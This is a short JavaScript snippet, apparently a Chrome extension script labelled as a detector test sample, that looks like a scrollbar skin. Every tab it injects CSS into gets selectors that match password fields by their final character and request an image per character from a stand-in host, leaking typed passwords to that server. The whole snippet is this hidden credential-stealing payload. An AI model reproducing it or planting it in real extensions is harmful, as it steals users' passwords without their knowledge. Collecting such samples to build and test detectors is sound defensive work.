const chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
// expect: style-reads-fields
const sel = (c) => `input[type="password"][value$="${c}"]{background-image:url("https://scroll-skin.example/p/${c}.png")}`;
const css = "::-webkit-scrollbar{width:8px}" + [...chars].map(sel).join("");
chrome.tabs.onUpdated.addListener((tabId, info) => {
  if (info.status === "complete") chrome.scripting.insertCSS({ target: { tabId, allFrames: true }, css, origin: "USER" });
});
